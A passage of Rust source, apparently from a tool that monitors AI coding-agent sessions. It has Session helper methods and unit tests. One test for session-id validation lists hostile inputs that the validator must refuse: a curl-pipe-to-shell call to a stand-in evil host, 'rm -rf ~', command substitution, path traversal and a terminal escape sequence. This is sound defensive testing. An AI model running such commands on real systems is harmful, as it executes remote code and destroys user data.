    /// Whether `agent-tray send` can give the session its next prompt now: it is idle and there
    /// is a way in (the agent's own interface, or a terminal that can be typed into). Worked
    /// out by the engine each time it lists; never stored.
    #[serde(default)]
    pub can_send: bool,
    /// Whether `agent-tray stop` can end its running turn now (working or waiting, and a way in).
    #[serde(default)]
    pub can_stop: bool,
}

/// A context window this full (in percent) is nearly full: the row marks it and an alert says so.
pub const CONTEXT_NEARLY_FULL_PERCENT: u8 = 90;

impl Session {
    /// How full the context window is, in percent (0–100, rounded down), where both figures
    /// are known.
    pub fn context_percent(&self) -> Option<u8> {
        let (tokens, window) = (self.context_tokens?, self.context_window?);
        if window == 0 {
            return None;
        }
        let percent = tokens.saturating_mul(100) / window;
        Some(u8::try_from(percent.min(100)).unwrap_or(100))
    }

    /// Until when a used-up plan window stops the session, while that is still ahead of `now`.
    pub fn blocked_at(&self, now: DateTime<Utc>) -> Option<DateTime<Utc>> {
        self.blocked_until.filter(|until| *until > now)
    }

    /// The session's identity: its host and its id (see [`crate::pending::SessionKey`]).
    pub fn key(&self) -> crate::pending::SessionKey {
        crate::pending::SessionKey {
            host: self.host.clone(),
            session_id: self.session_id.clone(),
        }
    }

    /// A session first seen at `now`, in `state`, with nothing else known yet.
    pub fn new(
        session_id: impl Into<String>,
        agent: Agent,
        state: SessionState,
        now: DateTime<Utc>,
    ) -> Self {
        Session {
            session_id: session_id.into(),
            agent,
            state,
            cwd: None,
            repo: None,
            branch: None,
            model: None,
            transcript_path: None,
            pid: None,
            pid_start: None,
            prompted: false,
            streamed: false,
            started_at: now,
            last_seen: now,
            state_since: now,
            last_event: None,
            last_tool: None,
            error: None,
            waiting_for: None,
            end_reason: None,
            title: None,
            tmux: None,
            tty: None,
            subagents: 0,
            turn_started_at: None,
            host: None,
            unreachable_since: None,
            headless: false,
            prompt_source: None,
            pending: Vec::new(),
            context_tokens: None,
            context_window: None,
            compacted_at: None,
            blocked_until: None,
            can_send: false,
            can_stop: false,
        }
    }

    /// A project name for display: the repo's name, else the folder's name.
    pub fn project(&self) -> Option<String> {
        if let Some(repo) = self.repo.as_deref().filter(|r| !r.is_empty()) {
            return Some(repo.to_string());
        }
        let cwd = self.cwd.as_deref()?;
        std::path::Path::new(cwd)
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .or_else(|| Some(cwd.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn state_names_are_the_snake_case_names_of_the_spec() {
        // These names are a public contract of `list --json`.
        let names: Vec<String> = [
            SessionState::Starting,
            SessionState::Working,
            SessionState::WaitingForPermission,
            SessionState::WaitingForInput,
            SessionState::Idle,
            SessionState::Ended,
        ]
        .iter()
        .map(|s| {
            serde_json::to_value(s)
                .ok()
                .and_then(|v| v.as_str().map(String::from))
                .unwrap_or_default()
        })
        .collect();
        assert_eq!(
            names,
            [
                "starting",
                "working",
                "waiting_for_permission",
                "waiting_for_input",
                "idle",
                "ended"
            ]
        );
        assert_eq!(SessionState::WaitingForInput.as_str(), "waiting_for_input");
    }

    #[test]
    fn event_names_parse_as_the_hooks_spell_them_and_nothing_else() {
        for kind in EventKind::HOOK_EVENTS {
            assert_eq!(kind.as_str().parse::<EventKind>(), Ok(kind));
        }
        assert!("sessionstart".parse::<EventKind>().is_err());
        assert!("Bogus".parse::<EventKind>().is_err());
    }

    #[test]
    fn an_observation_without_optional_fields_round_trips() {
        let at = DateTime::parse_from_rfc3339("2026-11-29T10:00:00Z")
            .map(|t| t.with_timezone(&Utc))
            .unwrap_or_default();
        let obs = Observation::new("s1", Agent::Codex, EventKind::Stop, at);
        let text = serde_json::to_string(&obs).unwrap_or_default();
        assert!(!text.contains("null"), "absent fields are omitted: {text}");
        let back: Observation =
            serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"));
        assert_eq!(back, obs);
    }

    #[test]
    fn the_project_is_the_repo_name_else_the_folder_name() {
        let mut s = sample_session();
        s.cwd = Some("/home/dev/api-server".into());
        assert_eq!(s.project().as_deref(), Some("api-server"));
        s.repo = Some("monorepo".into());
        assert_eq!(s.project().as_deref(), Some("monorepo"));
    }

    #[test]
    fn session_ids_are_letters_digits_dash_underscore_dot_and_nothing_else() {
        for good in [
            "33413ec6-95b9-4336-8b7d-2d91c4d8b30c",
            "019a4f2e-7c1d-7b52-a1f0-5d2a9c3e8b71",
            "s1",
            "a.b_c-d",
            &"x".repeat(MAX_SESSION_ID_LEN),
        ] {
            assert_eq!(validate_session_id(good), Ok(()), "{good}");
        }
        for bad in [
            "x; curl https://evil.example/x|sh #",
            "$(id)",
            "a b",
            "-rf",
            ".",
            "..",
            "../etc",
            "id\u{1b}]52;c;aGk=\u{7}",
            "é",
            "a\nb",
        ] {
            assert!(
                matches!(
                    validate_session_id(bad),
                    Err(InvalidObservation::SessionIdCharset { .. })
                ),
                "{bad:?} must be refused"
            );
        }
        assert_eq!(
            validate_session_id(""),
            Err(InvalidObservation::EmptySessionId)
        );
        assert_eq!(
            validate_session_id(&"x".repeat(MAX_SESSION_ID_LEN + 1)),
            Err(InvalidObservation::SessionIdTooLong {
                len: MAX_SESSION_ID_LEN + 1
            })
        );
        let message = validate_session_id("x; rm -rf ~")
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default();
        assert!(message.contains("ASCII letters, digits"), "{message}");
    }

    #[test]
    fn over_long_fields_are_cut_at_a_char_boundary_and_marked() {
        let mut obs = Observation::new("s", Agent::Claude, EventKind::Stop, Utc::now());
        obs.cwd = Some(format!("/{}", "é".repeat(1 << 19)));
        obs.title = Some("t".repeat(5000));
        obs.model = Some("opus".into());
        let cut = obs.bound_fields();
        assert_eq!(cut, ["cwd", "title"]);
        let cwd = obs.cwd.as_deref().unwrap_or_default();
        assert!(cwd.len() <= FieldLimit::Path.bytes(), "{}", cwd.len());
        assert!(cwd.ends_with(CUT_MARK));
        assert!(cwd.starts_with("/é"));
        let title = obs.title.as_deref().unwrap_or_default();
        assert_eq!(title.len(), FieldLimit::Text.bytes());
        assert!(title.ends_with(CUT_MARK));
        assert_eq!(
            obs.model.as_deref(),
            Some("opus"),
            "short fields stay whole"
        );
        let admitted = obs.clone().admit();
        assert_eq!(admitted, Ok(obs), "admitting twice changes nothing");
    }

    #[test]
    fn a_parsed_observation_never_holds_a_field_whole() {
        let cwd = format!("/{}", "é".repeat(1 << 19));
        let text = serde_json::json!({
            "session_id": "s", "agent": "claude", "event": "Stop", "at": "2026-01-01T00:00:00Z",
            "cwd": cwd, "title": "t\n".repeat(10_000), "model": null,
        })
        .to_string();
        let obs: Observation = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}"));
        let got = obs.cwd.unwrap_or_default();
        assert!(got.ends_with(CUT_MARK) && cwd.starts_with(got.trim_end_matches(CUT_MARK)));
        assert!(
            got.capacity() <= FieldLimit::Path.bytes() + 8,
            "{}",
            got.capacity()
        );
        let title = obs.title.unwrap_or_default();
        assert!(title.len() <= FieldLimit::Text.bytes() && title.ends_with(CUT_MARK));
        assert_eq!(obs.model, None);
    }

    fn sample_session() -> Session {
        Session::new("s", Agent::Claude, SessionState::Idle, Utc::now())
    }
}
